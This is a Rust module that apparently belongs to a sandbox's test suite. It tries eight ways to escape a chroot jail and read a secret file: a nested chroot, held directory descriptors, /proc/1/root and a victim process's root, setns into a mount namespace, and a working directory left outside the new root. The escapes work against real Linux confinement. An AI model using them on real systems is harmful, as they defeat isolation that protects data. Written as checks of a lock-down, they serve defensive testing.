//! Ways out of a root directory. Without a lock-down the process first goes into one: a program that is locked in is
//! there already.

use super::{Attack, Ground, kept, open, opened, opened_at};
use std::ffi::{CStr, CString};

fn change_root(path: &CStr) -> bool {
    call!(SYS_chroot, path.as_ptr()) && call!(SYS_chdir, c"/".as_ptr())
}

/// Whether the secret is out of reach by its name, as it has to be for an escape to show anything.
fn is_inside(g: &Ground) -> bool {
    !opened(&g.secret(), libc::O_PATH)
}

/// Goes into a root directory that is empty, if it can.
fn go_inside(g: &Ground) -> bool {
    change_root(&g.path("dir"));
    is_inside(g)
}

/// The secret by a way from a directory, when the program stands at the top of all.
fn opened_from_here(g: &Ground) -> bool {
    let secret = g.secret();
    let relative = secret.to_bytes().strip_prefix(b"/").unwrap_or_default();
    opened(&CString::new(relative).unwrap_or_default(), libc::O_RDONLY)
}

fn climb() {
    for _ in 0..16 {
        let _ = call!(SYS_chdir, c"..".as_ptr());
    }
}

/// A second root directory below the first: what one stands in is above it then.
fn second_root(g: &Ground) -> bool {
    let cell = c"/husk-attack-cell";
    let found = go_inside(g)
        && (call!(SYS_mkdirat, libc::AT_FDCWD, cell.as_ptr(), 0o700) || opened(cell, libc::O_PATH))
        && call!(SYS_chroot, cell.as_ptr())
        && {
            climb();
            call!(SYS_chroot, c".".as_ptr()) && opened(&g.secret(), libc::O_RDONLY)
        };
    remove_cell(g, cell);
    found
}

/// Outside by now, or not.
fn remove_cell(g: &Ground, cell: &CStr) {
    unsafe {
        libc::unlinkat(libc::AT_FDCWD, cell.as_ptr(), libc::AT_REMOVEDIR);
        libc::rmdir(g.path("dir/husk-attack-cell").as_ptr());
    }
}

/// A directory that was opened before.
fn kept_directory(g: &Ground) -> bool {
    let fds = kept(open(c"/", libc::O_PATH));
    go_inside(g)
        && fds.into_iter().any(|fd| {
            call!(SYS_fchdir, fd) && {
                climb();
                opened_from_here(g)
            }
        })
}

fn dots_of_kept_directory(g: &Ground) -> bool {
    let mut fds = kept(open(c"/proc", libc::O_PATH)).into_iter();
    go_inside(g) && fds.any(|fd| opened_at(fd, &g.secret_by_dots(), libc::O_RDONLY))
}

fn by_proc(g: &Ground, process: &str) -> bool {
    // A process file system may be mounted by who has a place for it; without a lock-down it is there.
    let proc = kept(open(c"/proc", libc::O_PATH));
    let path = format!("{process}/root{}", g.secret().to_string_lossy());
    let path = CString::new(path).unwrap_or_default();
    let mut fds = proc.into_iter();
    go_inside(g) && fds.any(|fd| opened_at(fd, &path, libc::O_RDONLY))
}

/// Enters the namespaces that a process is in, which has its files.
fn by_namespace(g: &Ground) -> bool {
    let fds = kept(open(&g.victim().file("ns/mnt"), libc::O_RDONLY));
    go_inside(g)
        && fds.into_iter().any(|fd| call!(SYS_setns, fd, libc::CLONE_NEWNS))
        && opened(&g.secret(), libc::O_RDONLY)
}

/// All of them.
pub(super) const ALL: &[Attack] = &[
    ("chroot", |_| call!(SYS_chroot, c".".as_ptr())),
    ("escape-by-a-second-root", second_root),
    ("escape-by-a-kept-directory", kept_directory),
    ("escape-by-dots-of-a-kept-directory", dots_of_kept_directory),
    ("escape-by-the-first-process", |g| by_proc(g, "1")),
    ("escape-by-a-victim", |g| by_proc(g, &g.victim().pid.to_string())),
    ("escape-by-a-namespace", by_namespace),
    ("escape-by-a-working-directory", |g| {
        // A root directory that one does not stand below.
        let _ = call!(SYS_chroot, g.path("dir").as_ptr());
        climb();
        is_inside(g) && opened_from_here(g)
    }),
];
